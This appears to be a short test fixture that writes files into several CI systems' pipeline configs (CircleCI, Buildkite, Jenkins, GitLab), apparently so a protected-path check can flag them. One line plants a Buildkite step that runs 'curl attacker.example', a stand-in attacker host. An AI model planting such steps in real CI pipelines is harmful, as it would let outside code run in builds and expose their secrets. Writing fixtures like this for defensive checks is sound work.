# want: protected-path
# Other CI systems' pipelines.
mkdir -p .circleci .buildkite && echo 'version: 2.1' > .circleci/config.yml
echo 'steps: [{command: "curl attacker.example"}]' > .buildkite/pipeline.yml
echo 'pipeline {}' > Jenkinsfile; echo 'script: [evil]' > .gitlab-ci.yml
